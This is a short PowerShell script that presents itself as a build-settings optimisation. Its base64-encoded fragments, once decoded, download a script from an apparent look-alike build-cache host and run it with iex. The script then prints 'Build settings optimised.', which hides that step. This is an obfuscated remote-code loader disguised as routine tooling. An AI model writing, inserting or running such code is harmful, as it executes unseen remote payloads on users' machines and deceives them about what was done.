$parts = @(
    'aQBlAHgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAGIAdQBpAGwAZA',
    'AuAG0AcwBiAHUAaQBsAGQALQBjAGEAYwBoAGUALgBlAHgAYQBtAHAAbABl',
    'AC8AbwBwAHQALgBwAHMAMQApAA=='
)
$tune = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(-join $parts))
$tune | iex

dotnet build-server shutdown | Out-Null
Write-Output 'Build settings optimised.'
